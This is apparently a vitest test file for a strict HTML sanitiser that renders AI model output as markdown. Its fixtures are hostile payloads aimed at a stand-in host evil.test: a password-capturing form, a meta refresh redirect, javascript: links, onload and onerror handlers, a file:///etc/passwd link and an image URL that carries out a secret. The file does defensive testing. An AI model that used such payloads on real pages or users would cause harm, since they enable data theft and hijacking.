/** Model output is hostile: what the strict sanitiser keeps of each kind of payload. */
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { StreamingMarkdown, renderMarkdown } from "../src/markdown";
import { PLACEHOLDER_CLASS, imageLoadsAtOnce, loadImagesOnClick, sanitizeHtml, setImagePolicy } from "../src/sanitize";

const DOWNLOAD = "/base/neta/api/agent/attachment/download";

function rendered(markdown: string): HTMLElement {
  const box = document.createElement("div");
  box.innerHTML = renderMarkdown(markdown);
  return box;
}

/** Every attribute name and element name in `root`, lowercased. */
function inventory(root: HTMLElement): { tags: Set<string>; attributes: Set<string> } {
  const tags = new Set<string>();
  const attributes = new Set<string>();
  for (const element of root.querySelectorAll("*")) {
    tags.add(element.tagName.toLowerCase());
    for (const attr of Array.from(element.attributes)) attributes.add(attr.name.toLowerCase());
  }
  return { tags, attributes };
}

beforeEach(() => setImagePolicy({ attachmentPath: DOWNLOAD, hosts: ["images.example.org", "*.cdn.example.com"] }));
afterEach(() => setImagePolicy({ attachmentPath: null, hosts: [] }));

describe("the strict sanitiser", () => {
  it("removes style elements, with their text, and every style attribute", () => {
    const box = rendered(
      [
        "<style>body { background: red } .neta-approve { position: fixed; inset: 0; opacity: 0 }</style>",
        "",
        '<p style="position: fixed; inset: 0; z-index: 99999; background: url(https://evil.test/x.png)">cover</p>',
        "",
        'Text with <span style="display: block; width: 100vw">a styled span</span> and <b style="color: red">bold</b>.',
      ].join("\n"),
    );
    const { tags, attributes } = inventory(box);
    expect(tags.has("style")).toBe(false);
    expect(attributes.has("style")).toBe(false);
    expect(box.textContent).not.toContain("background");
    expect(box.textContent).toContain("cover");
    expect(box.querySelector("b")?.textContent).toBe("bold");
  });

  it("removes forms, inputs, buttons and everything that could submit or navigate", () => {
    const box = rendered(
      [
        '<form action="https://evil.test/steal" method="post"><input type="password" name="pw" autofocus>',
        '<button formaction="https://evil.test/">Approve</button><select><option>x</option></select>',
        '<textarea>t</textarea></form><meta http-equiv="refresh" content="0;url=https://evil.test/">',
        '<base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css">',
        '<a href="https://example.org" ping="https://evil.test/ping">link</a>',
      ].join(""),
    );
    const { tags, attributes } = inventory(box);
    for (const tag of ["form", "input", "button", "select", "option", "textarea", "meta", "base", "link"]) {
      expect(tags.has(tag), tag).toBe(false);
    }
    for (const attr of ["action", "formaction", "autofocus", "ping", "name", "http-equiv"]) {
      expect(attributes.has(attr), attr).toBe(false);
    }
    // The button's label is left as text, not as something to click.
    expect(box.textContent).toContain("Approve");
  });

  it("removes frames, embeds, SVG and MathML with their scripting surface", () => {
    const box = rendered(
      [
        '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
        '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x">',
        '<svg onload="window.pwned=1"><image href="https://evil.test/x.png"/><foreignObject><p>in svg</p></foreignObject></svg>',
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>',
        '<video src="https://evil.test/v.mp4" poster="https://evil.test/p.png"></video><audio src="https://evil.test/a"></audio>',
        "<script>window.pwned = 1</script><noscript><p>x</p></noscript><template><img src=x></template>",
      ].join(""),
    );
    const { tags, attributes } = inventory(box);
    for (const tag of ["iframe", "object", "embed", "svg", "image", "math", "maction", "video", "audio", "script", "template"]) {
      expect(tags.has(tag), tag).toBe(false);
    }
    for (const attr of ["srcdoc", "onload", "poster", "xlink:href", "data"]) expect(attributes.has(attr), attr).toBe(false);
  });

  it("drops ids, names, data and aria attributes, and every class but highlight.js's", () => {
    const box = rendered(
      [
        '<p id="jp-main-statusbar" class="neta-approve neta-button jp-Cell" data-testid="neta-approve" aria-hidden="true">p</p>',
        "",
        '<span class="neta-run hljs-keyword" name="x">k</span> <code class="language-python neta-deny">c</code>',
        "",
        "```python",
        "def f():",
        "    return 1",
        "```",
      ].join("\n"),
    );
    const { attributes } = inventory(box);
    for (const attr of ["id", "name", "data-testid", "aria-hidden"]) expect(attributes.has(attr), attr).toBe(false);
    // Inside the blocks the renderer makes (each a `div.neta-md-block` of its own).
    const classes = [...box.querySelectorAll(".neta-md-block [class]")].flatMap((e) => [...e.classList]);
    expect(classes.filter((c) => c.startsWith("neta-") || c.startsWith("jp-"))).toEqual([]);
    expect(box.querySelector("p")?.hasAttribute("class")).toBe(false);
    expect(box.querySelector("span.hljs-keyword")?.textContent).toBe("k");
    expect(box.querySelector("code.language-python")?.textContent).toBe("c");
    expect(box.querySelector("pre code.hljs.language-python .hljs-keyword")?.textContent).toBe("def");
  });

  it("keeps what markdown renders", () => {
    const box = rendered(
      [
        "# Title",
        "",
        "Some *em*, **strong**, ~~gone~~, `code` and a [link](https://example.org).",
        "",
        "| a | b |",
        "|:--|--:|",
        "| 1 | 2 |",
        "",
        "> quoted",
        "",
        "3. three",
        "4. four",
        "",
        "---",
        "",
        "<details open><summary>More</summary>hidden text</details>",
      ].join("\n"),
    );
    for (const selector of ["h1", "em", "strong", "del", "code", "a", "table th[align=left]", "blockquote", "ol[start='3'] li", "hr", "details[open] summary"]) {
      expect(box.querySelector(selector), selector).not.toBeNull();
    }
  });

  it("renders task list boxes as marks, not inputs", () => {
    const box = rendered("- [x] done\n- [ ] to do\n");
    expect(box.querySelector("input")).toBeNull();
    expect(box.textContent).toContain("\u2611 done");
    expect(box.textContent).toContain("\u2610 to do");
  });

  it("keeps links to http(s) and mailto only, opening in a new tab without opener or referrer", () => {
    const box = rendered(
      [
        "[js](javascript:window.pwned=1) [vb](vbscript:msgbox) [data](data:text/html,<script>1</script>)",
        "[rel](../../api/contents) [anchor](#top) [file](file:///etc/passwd)",
        '<a href="  JaVaScRiPt:window.pwned=1">js2</a> [web](https://example.org/x) [mail](mailto:a@example.org)',
      ].join(" "),
    );
    const hrefs = [...box.querySelectorAll("a[href]")].map((a) => a.getAttribute("href"));
    expect(hrefs).toEqual(["https://example.org/x", "mailto:a@example.org"]);
    for (const link of box.querySelectorAll("a[href]")) {
      expect(link.getAttribute("target")).toBe("_blank");
      expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    }
    expect(box.textContent).toContain("js2");
  });

  it("removes event handlers of every kind", () => {
    const html = sanitizeHtml(
      '<img src="x" onerror="window.pwned=1"><b onmouseover="x()">b</b><details ontoggle="x()" open><summary>s</summary></details><a href="https://example.org" onclick="x()" onfocus="x()">a</a>',
    );
    expect(html.toLowerCase()).not.toMatch(/\son\w+=/);
  });
});

describe("images in model output", () => {
  it("hold back remote images (markdown, <img>, srcset) behind a placeholder", () => {
    const box = rendered(
      [
        "![chart](http://evil.test/?d=SECRET)",
        "",
        '<img src="https://evil.test/a.png" srcset="https://evil.test/b.png 2x" alt="b"> <img src="//evil.test/c.png">',
        "",
        '<table background="https://evil.test/t.png"><tr><td background="https://evil.test/d.png">x</td></tr></table>',
        "",
        "![lookalike](https://images.example.org@evil.test/x.png) ![sub](https://images.example.org.evil.test/x.png)",
      ].join("\n"),
    );
    expect(box.querySelectorAll("img")).toHaveLength(0);
    const { attributes } = inventory(box);
    expect(attributes.has("srcset")).toBe(false);
    expect(attributes.has("background")).toBe(false);
    const placeholders = [...box.querySelectorAll<HTMLElement>(`.${PLACEHOLDER_CLASS}`)];
    expect(placeholders.map((p) => p.dataset["src"])).toEqual([
      "http://evil.test/?d=SECRET",
      "https://evil.test/a.png",
      "//evil.test/c.png",
      "https://images.example.org@evil.test/x.png",
      "https://images.example.org.evil.test/x.png",
    ]);
    expect(placeholders[0]?.textContent).toContain("evil.test");
    expect(placeholders[0]?.textContent).toContain("chart");
  });

  it("show attachments of this server, data: images and allowed hosts at once", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    const box = rendered(
      [
        `![plot](${DOWNLOAD}?virtualPath=s%2Fr%2Fplot.png) ![inline](${png})`,
        `![allowed](https://images.example.org/a.png) ![sub](https://x.cdn.example.com/b.png)`,
        `![other endpoint](/base/api/contents/secret) ![html](data:text/html,hi)`,
      ].join(" "),
    );
    const sources = [...box.querySelectorAll("img")].map((img) => img.getAttribute("src"));
    expect(sources).toEqual([
      `${DOWNLOAD}?virtualPath=s%2Fr%2Fplot.png`,
      png,
      "https://images.example.org/a.png",
      "https://x.cdn.example.com/b.png",
    ]);
    for (const img of box.querySelectorAll("img")) expect(img.getAttribute("referrerpolicy")).toBe("no-referrer");
    expect(box.querySelectorAll(`.${PLACEHOLDER_CLASS}`)).toHaveLength(2);
  });

  it("without a server, only data: and this page's blob: images load", () => {
    setImagePolicy({ attachmentPath: null, hosts: [] });
    expect(imageLoadsAtOnce("data:image/gif;base64,R0lGODlh")).toBe(true);
    expect(imageLoadsAtOnce(`blob:${location.origin}/0b1c`)).toBe(true);
    expect(imageLoadsAtOnce("blob:https://evil.test/0b1c")).toBe(false);
    expect(imageLoadsAtOnce(`${DOWNLOAD}?virtualPath=x.png`)).toBe(false);
    expect(imageLoadsAtOnce("https://images.example.org/a.png")).toBe(false);
  });

  it("load a held-back image when its placeholder is clicked, and keep it through later updates", () => {
    const container = document.createElement("div");
    document.body.append(container);
    loadImagesOnClick(container);
    const markdown = new StreamingMarkdown(container);
    markdown.update("See ![the chart](https://charts.test/one.png) here");
    const placeholder = container.querySelector<HTMLElement>(`.${PLACEHOLDER_CLASS}`);
    expect(placeholder).not.toBeNull();
    placeholder?.click();
    expect(container.querySelector(`.${PLACEHOLDER_CLASS}`)).toBeNull();
    expect(container.querySelector("img")?.getAttribute("src")).toBe("https://charts.test/one.png");
    // The open block is rendered again as text arrives: the image the user chose stays.
    markdown.update("See ![the chart](https://charts.test/one.png) here, and more");
    expect(container.querySelector("img")?.getAttribute("src")).toBe("https://charts.test/one.png");
    expect(container.querySelector(`.${PLACEHOLDER_CLASS}`)).toBeNull();
    // Another remote image is still held back.
    markdown.update("See ![the chart](https://charts.test/one.png) here, and ![two](https://charts.test/two.png)");
    expect(container.querySelectorAll(`.${PLACEHOLDER_CLASS}`)).toHaveLength(1);
    container.remove();
  });
});
